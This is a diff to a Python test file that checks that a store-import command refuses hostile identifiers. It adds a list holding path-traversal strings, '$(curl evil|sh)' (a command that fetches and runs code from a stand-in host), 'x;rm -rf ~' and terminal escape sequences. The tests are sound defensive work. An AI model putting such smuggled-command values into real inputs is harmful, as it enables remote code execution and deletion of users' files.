@@ -126,7 +126,8 @@ def fill(store: Store, seed: int) -> None:
             "task_id": lambda n: draw.choice([None, ids[n % len(ids)]]),
             "job_id": lambda n: task_of[ids[n % len(ids)]],
         }
-        runs = put(tables.runs, some["run"] if ids else 0, **with_task, id=lambda n: f"run-{n}", state=lambda n: "done")
+        with_task |= {"state": lambda n: "done", "group_key": lambda n: f"{n % 3:016x}"}
+        runs = put(tables.runs, some["run"] if ids else 0, **with_task, id=lambda n: f"run-{n}")
         for table in (tables.steps, tables.finals, tables.predictions, tables.artifacts):
             put(table, some["more"] if runs else 0, run_id=lambda n: draw.choice(runs)["id"])
         chosen: list[Any] = [draw.choice([None, "removed", *ids]) for _ in range(some["more"])]
@@ -473,10 +474,51 @@ def test_a_store_goes_to_another_machine_by_export_and_import(store: Store, tmp_
     assert result.exit_code == 2 and not (tmp_path / "new.db").exists()
 
 
-@pytest.mark.parametrize("run_id", ["../../ada", "/srv/ada", "..", "", "a\0"])
-def test_an_id_that_leads_out_of_its_folder_is_refused(run_id: str, store: Store, other: Store, tmp_path: Path) -> None:
-    add_runs(store, put(store), run_id)  # `raymsa rm` would remove what it names
+HOSTILE = [
+    "../../ada",
+    "/srv/ada",
+    "..",
+    "",
+    "a\0",
+    "$(curl evil|sh)",
+    "x;rm -rf ~",
+    "a b",
+    "-rf",
+    "\x1b[2J",
+    "a\n",
+    "\u202egp",
+]
+
+
+def refused(other: Store, path: Path) -> str:
+    with pytest.raises(UsageError) as told:
+        import_(other, path, "eve")
+    assert queries.jobs(other) == [] and str(told.value).isprintable()
+    return str(told.value)
+
+
+@pytest.mark.parametrize("given", [*HOSTILE, "r" * 300])
+def test_an_id_that_no_raymsa_gives_is_refused(given: str, store: Store, other: Store, tmp_path: Path) -> None:
+    add_runs(store, put(store), given)  # `raymsa rm` would remove what it names, and people paste commands
     export(store, tmp_path / "bad.jsonl")
-    with pytest.raises(UsageError, match="cannot be a folder's name"):
-        import_(other, tmp_path / "bad.jsonl", "eve")
-    assert queries.jobs(other) == []
+    assert f"{given[:80]!a} is no id of runs" in refused(other, tmp_path / "bad.jsonl")
+
+
+@pytest.mark.parametrize("given", [*HOSTILE, "0123456789ABCDEF", "0" * 15, "0" * 17])
+def test_a_group_key_that_no_raymsa_gives_is_refused(given: str, store: Store, other: Store, tmp_path: Path) -> None:
+    add_runs(store, put(store), "r1")
+    with store.write() as connection:
+        connection.execute(tables.runs.update().values(group_key=given))
+    export(store, tmp_path / "bad.jsonl")
+    assert f"{given!a} is no group_key of runs" in refused(other, tmp_path / "bad.jsonl")
+
+
+@pytest.mark.parametrize("given", ["../x", "x;sh", "0123456", "0123456G", "\x1b[2Jabcd"])
+def test_a_jobs_id_that_no_raymsa_gives_is_refused(given: str, store: Store, other: Store, tmp_path: Path) -> None:
+    put(store)
+    with store.write() as connection:
+        connection.execute(tables.events.delete())
+        connection.execute(tables.tasks.delete())
+        connection.execute(tables.jobs.update().values(id=given))
+    export(store, tmp_path / "bad.jsonl")
+    assert f"{given!a} is no id of jobs" in refused(other, tmp_path / "bad.jsonl")
